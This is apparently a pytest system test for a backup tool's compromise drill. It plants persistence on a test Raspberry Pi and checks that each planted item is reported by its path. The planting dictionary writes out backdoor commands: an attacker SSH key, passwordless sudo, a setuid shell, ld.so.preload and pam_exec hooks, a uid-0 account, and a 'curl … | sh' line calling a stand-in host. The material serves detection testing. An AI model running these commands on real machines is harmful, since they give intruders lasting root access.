"""Somebody was on the Pi: whatever was left there to come back is told by its path, and a healthy Pi is left alone."""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from muster.drill import Blocked
from muster.errors import MusterError
from muster.findings import Finding
from muster.plan import load
from muster.record import Record
from muster.session import Options, Session, new_run
from tests.system import breaking
from tests.system.breaking import PLAN, Sample

# What an owner backs up who means to have all of it back: the sample's own plan holds nothing of these.
WIDER = (
    "/etc/cron.d", "/etc/sudoers.d", "/etc/ld.so.preload", "/etc/profile.d", "/etc/udev/rules.d", "/etc/ssh/sshd_config.d",
    "/etc/pam.d", "/etc/apt/apt.conf.d", "/root/.ssh", "/home/pi",
)  # fmt: skip
SAVED = " ".join(
    [*WIDER, "/etc/systemd/system", "/etc/postgresql", "/etc/mosquitto", "/usr/local/bin", "/usr/local/lib/telemetry"]
)
HEALTHY = """
set -e
mkdir -p -m 0700 /root/.ssh; mkdir -p /home/pi /etc/cron.d /etc/sudoers.d /etc/udev/rules.d /etc/ssh/sshd_config.d
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBdTzYnVSAcVNnVCcDBSoO4DCZVZvZGtFJfNeqVgxkFJ owner@desk' > /root/.ssh/authorized_keys
echo 'pi ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/010_pi-nopasswd; chmod 0440 /etc/sudoers.d/010_pi-nopasswd
echo '17 3 * * * root /usr/bin/find /tmp -mtime +9 -delete' > /etc/cron.d/tidy
echo '# LD_PRELOAD is not for us' > /etc/profile.d/own.sh; echo 'alias ll="ls -l"' > /home/pi/.bashrc
echo 'SUBSYSTEM=="tty", GROUP="dialout"' > /etc/udev/rules.d/50-tty.rules
echo 'PasswordAuthentication no' > /etc/ssh/sshd_config.d/00-own.conf
: > /etc/ld.so.preload
for name in one two; do printf '#!/bin/sh\\ntrue\\n' > /usr/local/bin/own-$name; chmod 0755 /usr/local/bin/own-$name; done
cp /usr/bin/true /usr/local/bin/own-three; cp /usr/bin/true /srv/media/own-four
"""
# Each of it by the path that has to be named; loud ones first, then those that hardly change anything.
PLANTED = {
    "/root/.ssh/authorized_keys": "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP1Vh0HXnEk8e9n7T8Lr0sZbVtq6fWJx7pYc2uKd5mQa >> $F",
    "/etc/sudoers.d/90-cloud": "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > $F",
    "/etc/cron.d/apt-compat": "echo '* * * * * root /usr/local/bin/.cache/run' > $F",
    "/etc/systemd/system/systemd-netlinkd.service": "printf '[Service]\\nExecStart=/dev/shm/netlinkd\\n' > $F",
    "/etc/systemd/system/multi-user.target.wants/systemd-netlinkd.service": "ln -s ../systemd-netlinkd.service $F",
    "/etc/systemd/system/apt-clean.timer": "printf '[Timer]\\nOnCalendar=hourly\\n' > $F",
    "/usr/local/lib/telemetry/libsys.so": "cp /usr/lib/*-linux-gnu/libm.so.6 $F",
    "/etc/ld.so.preload": "echo /usr/local/lib/telemetry/libsys.so > $F",
    "/etc/profile.d/locale-fix.sh": "echo 'curl -fs http://far.invalid/x | sh' > $F",
    "/etc/udev/rules.d/99-usb.rules": 'echo \'ACTION=="add", RUN+="/usr/local/bin/tsh"\' > $F',
    "/etc/ssh/sshd_config.d/10-root.conf": "echo 'PermitRootLogin yes' > $F",
    "/etc/apt/apt.conf.d/99update": "echo 'APT::Update::Pre-Invoke {\"/usr/local/bin/tsh\";};' > $F",
    "/etc/pam.d/common-auth": "echo 'auth sufficient pam_exec.so quiet /usr/local/bin/tsh' >> $F",
    "/etc/postgresql/17/main/conf.d/zz.conf": "echo \"archive_command = '/usr/local/bin/tsh'\" > $F",
    "/etc/mosquitto/conf.d/zz.conf": "echo 'allow_anonymous true' > $F",
    "/usr/local/bin/tsh": "cp /bin/dash $F; chmod 4755 $F",
    "/usr/local/lib/telemetry/sitecustomize.py": "echo 'import os' > $F",
    "/home/pi/.config/systemd/user/sync.service": "mkdir -p ${F%/*}; printf '[Service]\\nExecStart=/bin/true\\n' > $F",
    "/home/pi/.config/autostart/sync.desktop": "mkdir -p ${F%/*}; printf '[Desktop Entry]\\nExec=/bin/true\\n' > $F",
    "/srv/media/.git/hooks/post-merge": "mkdir -p ${F%/*}; printf '#!/bin/sh\\n' > $F",
    "/srv/media/photos/thumb": "cp /bin/dash $F; chmod 4755 $F",
    "/srv/media/photos/update": "printf '#!/bin/sh\\n' > $F; chmod 0755 $F",
    # Quiet: one line in a unit, a drop-in, a program that a unit starts, a mode, a capability, where a link leads to, and a gap.
    "/etc/systemd/system/telemetry-recorder.service": "echo 'ExecStartPost=-/usr/local/bin/tsh' >> $F",
    "/etc/systemd/system/telemetry-ingest.service.d/own.conf": "mkdir -p ${F%/*}; printf '[Service]\\nUMask=0022\\n' > $F",
    "/usr/local/lib/telemetry/telemetry/recorder.py": "echo '# eve' >> $F",
    "/usr/local/bin/own-one": "chmod 0777 $F",
    "/usr/local/bin/own-two": "touch -r $F /tmp/then; sed -i s/true/:\\ \\ \\ /  $F; touch -r /tmp/then $F",
    "/usr/local/bin/own-three": "setcap cap_setuid=ep $F",
    "/srv/media/own-four": "setcap cap_setuid=ep $F",
    "/usr/local/bin/telemetry-selftest": "ln -sfn /usr/local/bin/tsh $F",
    "/home/pi/.bashrc": "echo \"alias sudo='/usr/local/bin/tsh'\" >> $F",
    "/etc/ssh/sshd_config.d/00-own.conf": "rm $F",
    "account eve": "useradd -o -u 0 -g 0 -M -N -d /root -s /bin/bash eve",
    "account mallory": "useradd -M -N -g users -G sudo -s /bin/bash mallory",
}
CHANGED = {  # those that a healthy Pi has, too
    "/root/.ssh/authorized_keys", "/etc/ld.so.preload", "/etc/pam.d/common-auth", "/home/pi/.bashrc",
    "/etc/systemd/system/telemetry-recorder.service", "/usr/local/lib/telemetry/telemetry/recorder.py",
    "/usr/local/bin/own-one", "/usr/local/bin/own-two", "/usr/local/bin/own-three",
    "/srv/media/own-four", "/usr/local/bin/telemetry-selftest",
    "/etc/ssh/sshd_config.d/00-own.conf",
}  # fmt: skip
PLANT = "\n".join(
    [
        "set -e",
        f"tar --xattrs --xattrs-include='*' -cpPf /root/before.tar {SAVED}",
        *(f"F={path!r}; {do}" for path, do in PLANTED.items()),
    ]
)
UNDO = f"""
sed -i -e /^eve:/d -e /^mallory:/d /etc/passwd /etc/shadow; sed -i -e s/mallory// /etc/group /etc/gshadow
: > /etc/ld.so.preload; rm -rf /srv/media/.git /srv/media/photos/thumb /srv/media/photos/update {SAVED}
tar --xattrs --xattrs-include='*' -xpPf /root/before.tar; rm /root/before.tar
"""

# The living Pi is everybody's: it is left as it was found.
KEEP = f"ls -d {SAVED} 2>/dev/null | tar --xattrs --xattrs-include='*' -cpPf /root/found.tar -T -"
GIVE_BACK = f"""
rm -rf {SAVED} /srv/media/own-four
tar --xattrs --xattrs-include='*' -xpPf /root/found.tar; rm /root/found.tar; systemctl daemon-reload
"""


@dataclass(frozen=True, slots=True)
class Story:
    """What is left of a Pi: when its last backup was made that is known to be good, and when somebody came."""

    home: Path
    known_good: str
    before: datetime


def _widened(text: str) -> str:
    more = "".join(f'"{path}", ' for path in WIDER)
    text = re.sub(r"(?ms)^\[repositories\.(offsite|vault-offsite)\].*?(?=^\[)", "", text).replace(
        '["vault", "vault-offsite"]', '["vault"]'
    )
    return re.sub(r'(?m)^(paths = \[)("/etc/mosquitto")', rf"\1{more}\2", text)


@pytest.fixture(scope="module")
def story(system: Sample) -> Iterator[Story]:
    """Two backups of a healthy Pi whose plan holds more, and one after somebody was there."""
    pi, own = system.living, "/etc/muster/plan.toml"
    plan = pi.run(f"{KEEP}; cp -a {own} /root/plan.toml; cat {own}")
    try:
        pi.run(f"cat > {own} <<'END'\n{_widened(plan)}\nEND\n{HEALTHY}")
        with pi.ticking():
            pi.backup()
            good = datetime.now(UTC)
            pi.backup()
        before = datetime.now(UTC)
        yield Story(system.backed_up("intruder", PLANT, UNDO), good.isoformat(), before)
    finally:
        pi.run(f"mv /root/plan.toml {own}; {GIVE_BACK}")


@contextlib.contextmanager
def _drilled(system: Sample, story: Story, **words: object) -> Iterator[tuple[Record, Session]]:
    """The record of a drill that goes as far as the comparison, and the session that still has its machine."""
    path = story.home / "plan.toml"
    path.write_text(_widened(PLAN.read_text()).replace("../../.sample", str(story.home)))
    session = Session(Options(system.out, new_run()), say=lambda _: None)
    drill = session.drill(load(path), "compromise", known_good=story.known_good, **words)
    try:
        with contextlib.suppress(MusterError, Blocked):
            drill.reach("verified", drill.persistence)
        yield drill.record, session
    finally:
        session.close(finish=False)


def _left(record: Record) -> list[Finding]:
    return [each for each in record.findings if each.code in ("persistence-found", "program-changed", "no-known-good")]


def test_everything_that_an_intruder_planted_is_told_by_its_path(system: Sample, story: Story) -> None:
    with _drilled(system, story) as (record, _):
        found = {each.where: each for each in _left(record)}
        assert set(PLANTED) <= set(found), f"missed: {sorted(set(PLANTED) - set(found))}\n{breaking.told(record)}"
        assert set(found) <= {*PLANTED, "/etc/pam.d"}, f"too much: {sorted(set(found) - set(PLANTED))}"
        assert "SHA256:" in found["/root/.ssh/authorized_keys"].evidence
        assert "AAAA" not in json.dumps([each.as_event() for each in record.findings])
        assert "another content" in found["/usr/local/bin/own-two"].what
        assert all("security.capability" in found[path].what for path in ("/usr/local/bin/own-three", "/srv/media/own-four"))
        assert record.steps["compare:usb"].outcome == "failed"


def test_a_restore_point_from_before_the_intruder_is_silent_and_brings_nothing_of_it(system: Sample, story: Story) -> None:
    with _drilled(system, story, first_sign=story.before) as (record, session):
        assert _left(record) == [], breaking.told(record)
        assert breaking.outcome(record, "compare:clean", "compare:usb", "compare:vault", "compare:machine") == {"done"}
        planted = " ".join(path for path in PLANTED if path.startswith("/"))
        (machine,) = (drill.machine for drill in session.drills.values())
        here = machine.run(
            f"ls -d {planted} 2>/dev/null; cat /etc/ld.so.preload; getent passwd eve mallory",
            timeout=timedelta(seconds=20),
        )
        assert set(here.out.split()) <= CHANGED
        looked = {each.what: each for each in record.case_file.compared if story.known_good[:10] in each.against}
        assert looked["whatever runs or lets in by itself"].looked > 20
